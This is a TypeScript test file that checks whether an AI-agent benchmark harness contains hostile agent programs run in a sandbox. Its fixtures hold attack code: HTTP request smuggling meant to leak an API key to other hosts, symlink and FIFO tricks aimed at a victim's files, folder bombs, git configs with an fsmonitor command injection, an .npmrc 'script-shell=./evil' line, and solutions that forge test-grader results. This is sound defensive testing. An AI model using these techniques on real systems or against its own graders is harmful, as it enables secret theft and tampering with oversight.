import { spawnSync } from 'node:child_process'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { expect, it, onTestFinished } from 'vitest'
import type { AskStep } from '../../src/schema/ledger/step.ts'
import { failed, judge } from '../graders/test-run/judge-sum.ts'
import { keysIn, otherServers, realKey, startLeakyProvider } from '../helpers/fuzz/fuzz-gateway.ts'
import { builtinAnswer, forger } from '../helpers/graders/forgers.ts'
import { needs } from '../helpers/house/needs.ts'
import { folderOf, tempFolder } from '../helpers/machine/temp.ts'
import { bench, recordsOf, stepsOf } from '../helpers/runs/cli.ts'

// Every attack is an agent's program in bubblewrap, as a user without rights, with a hard count.
const attacked = needs('bwrap').it

const answer = `process.stdin.resume(); process.stdin.on('data', () => {})
const say = (text) => { console.log(JSON.stringify({ result: text + '\\nAnswer: 84' })); process.exit(0) }`

interface Attack {
  /** Source of the program, which ends with `say(text)`. */
  script: string
  baseUrl?: string
  env?: Record<string, string>
  home?: Record<string, string>
  args?: readonly string[]
}

/** A live run whose agent is an attack. Private folders are made in a place of its own, which must be empty afterwards. */
async function runOf({ script, baseUrl, env = {}, home = {}, args = [] }: Attack) {
  // Not in /tmp, which programs in a sandbox have for themselves.
  const bin = mkdtempSync('/var/tmp/attacking-cli-')
  onTestFinished(() => rmSync(bin, { recursive: true, force: true }))
  chmodSync(bin, 0o755)
  const program = join(bin, 'agent')
  writeFileSync(
    program,
    `#!/usr/bin/env node\nconst fs = require('node:fs'), net = require('node:net')\n${answer}\n${script}`,
    {
      mode: 0o755,
    },
  )
  const [cwd, temporary] = [tempFolder(), tempFolder()]
  chmodSync(temporary, 0o755)
  const agent = {
    provider: 'cli',
    model: 'm',
    ...(baseUrl && { baseUrl, keyVariable: 'MY_KEY' }),
    prices: { input: 0.3, output: 1.2 },
    program: {
      command: [program],
      env: { ...env, ...(baseUrl && { GATEWAY: '{baseUrl}' }) },
      ...(baseUrl && { keyInside: 'KEY' }),
      home,
      output: 'json',
      text: '$.result',
    },
  }
  writeFileSync(join(cwd, 'bench.config.yaml'), JSON.stringify({ agents: { mine: agent } }))
  const run = join(cwd, 'run')
  const what = args.includes('--instruction') ? [] : ['--tasks', 'lamp-paths']
  const options = [...what, '--agents', 'mine', '--mode', 'live', '--out', run, '--quiet']
  const methods = args.includes('--methods') ? [] : ['--methods', 'baseline']
  const ended = await bench([...options, ...methods, ...args], {
    cwd,
    env: { MY_KEY: realKey, TMPDIR: temporary },
  })
  const asks = existsSync(run) ? stepsOf(run).filter((step): step is AskStep => step.kind === 'ask') : []
  return { ended, run, asks, records: recordsOf(run), left: readdirSync(temporary) }
}

/** Returns the content of all files of a run folder as one text. */
const textOf = (folder: string) =>
  readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .map((name) => join(folder, name))
    .filter((path) => statSync(path).isFile())
    .map((path) => readFileSync(path, 'latin1'))
    .join('\n')

attacked(
  'no request of an agent’s program leads elsewhere, stops the run, or brings it the key',
  async () => {
    const provider = await startLeakyProvider()
    onTestFinished(() => {
      provider.server.closeAllConnections()
      provider.server.close()
    })
    const others = await otherServers([provider.port * 10].filter((port) => port < 65_536))
    const hosts = others.ports.map((port) => `127.0.0.1:${port}`)
    const targets = [
      ...['munity://x/v1', 'host://steal', 'x://y', '*', '0/x', '@127.0.0.1/x', '/other', '/base/v1/../../x'],
      ...hosts.flatMap((host) => [`http://${host}/x`, `//${host}/x`, `/\\${host}/x`, `@${host}/x`, host]),
    ]
    const script = `
    const { hostname, port } = new URL(process.env.GATEWAY)
    const ask = (text) => new Promise((resolve) => {
      const socket = net.connect(Number(port), hostname, () => socket.write(text))
      let reply = ''
      socket.on('data', (part) => { reply += part }).on('close', () => resolve(reply)).on('error', () => {}).setTimeout(3000, () => socket.destroy())
    })
    ;(async () => {
      const key = process.env.KEY
      const rest = ' HTTP/1.1\\r\\nHost: x\\r\\nAuthorization: Bearer ' + key + '\\r\\nX-Echo: ' + key + '\\r\\nConnection: close\\r\\n'
      const body = JSON.stringify({ model: 'm', messages: [{ role: 'user', content: key }] })
      const end = 'X-Session-Pack: gzip\\r\\nContent-Length: ' + body.length + '\\r\\n\\r\\n' + body
      const codes = []
      for (const target of ${JSON.stringify(targets)})
        for (const method of ['POST', 'CONNECT']) codes.push((await ask(method + ' ' + target + rest + '\\r\\n')).slice(9, 12))
      await Promise.all(Array.from({ length: 400 }, () => ask('GET /base/v1/x')))
      const echoed = await ask('POST /base/v1/chat/completions?key=' + key + rest + end)
      say([...new Set(codes)].join() + ' then ' + echoed.slice(9, 12) + ' ' + Buffer.from(echoed).toString('base64') + ' ' + [...echoed].reverse().join(''))
    })()`
    const { ended, run, asks, records, left } = await runOf({ script, baseUrl: `${provider.url}/base/v1` })
    expect(ended).toMatchObject({ code: 0 })
    expect(asks.map(({ reply = '' }) => reply.slice(0, 12))).toEqual(['400 then 404'])
    expect(records).toMatchObject([{ outcome: { status: 'completed' }, refusedRequests: expect.any(Number) }])
    expect(asks[0]?.refused?.requests[0]).toMatchObject({
      method: 'POST',
      reason: expect.stringContaining('is not a path'),
    })
    expect(others.reached()).toBe(0)
    // The first one is the harness's own, which finds a dead server before the run.
    const urls = ['/base/v1/models', '/base/v1/chat/completions']
    expect(provider.received.map(({ url }) => url)).toEqual(urls)
    const text = textOf(run) + ended.stdout + ended.stderr
    expect([keysIn(text), text.includes([...realKey].reverse().join('')), text.includes('redacted')]).toEqual(
      [[], false, false],
    )
    expect(left).toEqual([])
  },
)

attacked.each([
  ['a link to a file', `fs.rmSync(f); fs.symlinkSync(process.env.VICTIM + '/file', f)`],
  ['a link to a file that is not there', `fs.rmSync(f); fs.symlinkSync(process.env.VICTIM + '/new', f)`],
  ['a link to a folder', `fs.rmSync(d, { recursive: true }); fs.symlinkSync(process.env.VICTIM, d)`],
  ['a FIFO', `fs.rmSync(f); require('node:child_process').spawnSync('mkfifo', [f])`],
  [
    'a closed folder',
    `fs.mkdirSync(d + '/x', { recursive: true }); fs.chmodSync(d + '/x', 0); fs.chmodSync(d, 0); fs.chmodSync(process.env.HOME, 0)`,
  ],
])('settings are not laid out through %s that a program has put into HOME', async (_, deed) => {
  const victim = tempFolder()
  for (const name of ['file', 'settings.json']) writeFileSync(join(victim, name), 'precious', { mode: 0o600 })
  const script = `
    const d = process.env.HOME + '/.agent', f = d + '/settings.json'
    const before = fs.readFileSync(f, 'utf8')
    ${deed}
    say('settings: ' + before)`
  const { asks, records, left } = await runOf({
    script,
    env: { VICTIM: victim },
    home: { '.agent/settings.json': '{"telemetry": false}' },
    args: ['--methods', 'baseline[turns=2]'],
  })
  expect(asks.map(({ reply = '' }) => reply.split('\n')[0])).toEqual(
    Array(2).fill('settings: {"telemetry": false}'),
  )
  expect(records).toMatchObject([{ outcome: { status: 'completed' } }])
  expect(readdirSync(victim).sort()).toEqual(['file', 'settings.json'])
  for (const name of ['file', 'settings.json'])
    expect(readFileSync(join(victim, name), 'utf8')).toBe('precious')
  expect(left).toEqual([])
})

attacked(
  '6,000 folders in each other, in HOME and in the workspace, cost no trial its outcome and stay nowhere',
  async () => {
    const script = `
    const name = 'd'.repeat(20), at = process.cwd()
    for (const place of [process.env.HOME, at]) {
      process.chdir(place)
      for (let i = 0; i < 3000; i++) { try { fs.mkdirSync(name) } catch {} process.chdir(name) }
    }
    say('deep')`
    const { asks, records, left } = await runOf({ script, args: ['--methods', 'baseline[turns=2]'] })
    expect(asks.map(({ error }) => error)).toEqual([undefined, undefined])
    expect(records).toMatchObject([{ outcome: { status: 'completed' } }])
    expect((records[0]?.outcome.reason ?? '').length).toBeLessThan(1000)
    expect(left).toEqual([])
  },
)

attacked('an agent’s folder makes no repository in artifacts, whatever it is called there', async () => {
  const request = folderOf({ 'request.md': 'Do something.' })
  mkdirSync(join(request, 'work'))
  writeFileSync(join(request, 'work', 'a.txt'), 'a')
  const script = `
    const config = '[core]\\n\\tfsmonitor = "touch PWNED; false"\\n\\tbare = false\\n\\tworktree = .\\n'
    const repository = (folder) => {
      for (const inner of ['objects', 'refs']) fs.mkdirSync(folder + '/' + inner, { recursive: true })
      const files = { HEAD: 'ref: refs/heads/main\\n', config, 'objects/keep': 'x', 'refs/keep': 'x' }
      for (const [name, text] of Object.entries(files)) fs.writeFileSync(folder + '/' + name, text)
    }
    for (const folder of ['.git', '.GIT', 'a/.Git', '.g\\u200cit', '.git ', 'git~1', '.', 'plain/inner']) repository(folder)
    fs.mkdirSync('sub'); fs.writeFileSync('sub/.git', 'gitdir: ../plain/inner')
    fs.mkdirSync('.hg'); fs.writeFileSync('.hg/hgrc', '[hooks]')
    fs.writeFileSync('.npmrc', 'script-shell=./evil'); fs.writeFileSync('made.txt', 'made')
    say('made')`
  const args = ['--instruction', join(request, 'request.md'), '--workspace', join(request, 'work')]
  const { ended, run, asks } = await runOf({ script, args })
  expect(ended).toMatchObject({ code: 0 })
  const [trial = ''] = readdirSync(join(run, 'artifacts'))
  const files = join(run, 'artifacts', trial, 'files')
  const all = readdirSync(files, { recursive: true, encoding: 'utf8' })
  expect(all).toContain('made.txt')
  expect(all.filter((path) => /(?:^|\/)HEAD$|g.?it|hg/i.test(path))).toEqual([])
  for (const folder of ['.', 'plain/inner', 'sub', 'a'].map((name) => join(files, name)).filter(existsSync))
    expect(
      spawnSync('git', ['-C', folder, 'rev-parse', '--git-dir'], { encoding: 'utf8' }).stdout,
    ).not.toContain('artifacts')
  const refused = asks[0]?.changeSet?.rejected?.map(({ path }) => path) ?? []
  expect(refused).toEqual(
    expect.arrayContaining(['.GIT', 'a/.Git', '.g\u200cit', '.git ', 'git~1', 'sub/.git', '.hg']),
  )
  expect(ended.stderr).toMatch(/contains \.npmrc: tools load such files/)
  expect(ended.stderr).toMatch(/omits HEAD, plain\/inner\/HEAD: with this, git would treat/)
})

const wrongSum = 'export const add = () => 0\nexport const double = () => 0\n'

it.each(['eval', 'Object.prototype', 'globalThis', 'Reflect', 'setTimeout'])(
  'a solution that takes over the channel to the tests fails all of them by the tests’ own %s',
  async (name) => {
    const result = await judge(`${forger(builtinAnswer(name))}\n${wrongSum}`)
    expect(result).toMatchObject({ ...failed, tests: { passed: 0, total: 3 } })
    expect(result.reason).toContain("the solution's process sent a value that")
  },
)
